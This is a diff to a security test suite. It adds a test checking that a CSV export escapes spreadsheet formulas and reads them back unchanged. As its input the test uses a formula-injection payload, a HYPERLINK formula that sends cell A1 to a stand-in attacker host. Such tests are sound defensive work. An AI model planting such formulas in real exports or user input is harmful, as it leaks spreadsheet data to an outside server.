@@ -15,6 +15,7 @@ import { loadConfig } from '../../src/config';
 import { createUser } from '../../src/core/users/create-user';
 import { SESSION_HOURS } from '../../src/core/users/sessions';
 import { fastArgon2Hasher } from '../../src/platform/password';
+import { parseCsv } from '../../src/platform/sheets';
 import { READ_ONLY_UNSAFE_ROUTES } from '../../src/server/plugins/auth';
 import { headers, signInAs, testApp } from '../support/app';
 import { describeEachDatabase } from '../support/databases';
@@ -328,6 +329,28 @@ describeEachDatabase('security review', (t) => {
       payload: { name: 'from a token', scope: 'write' },
     });
     expect(again.statusCode).toBe(403);
+  });
+
+  it('CSV export: text a spreadsheet would run as a formula is marked as text, and reads back as stored', async () => {
+    const s = await signInAs(app, 'secretariat');
+    const title = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")';
+    const created = await app.inject({
+      method: 'POST',
+      url: '/api/commitments',
+      headers: headers(s),
+      payload: sampleCommitment({ ref: 'CSV-FORMULA', title }),
+    });
+    expect(created.statusCode).toBe(201);
+    const csv = await app.inject({
+      method: 'GET',
+      url: '/api/commitments/export?format=csv&q=HYPERLINK',
+      headers: headers(s),
+    });
+    expect(csv.statusCode).toBe(200);
+    expect(csv.body).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""Click"")"`);
+    expect(csv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const row = parseCsv(csv.body).find((r) => r.ref === 'CSV-FORMULA');
+    expect(row?.title).toBe(title);
   });
 
   it('audit: every sign-in and every failed one is recorded with the address, never with the password', async () => {
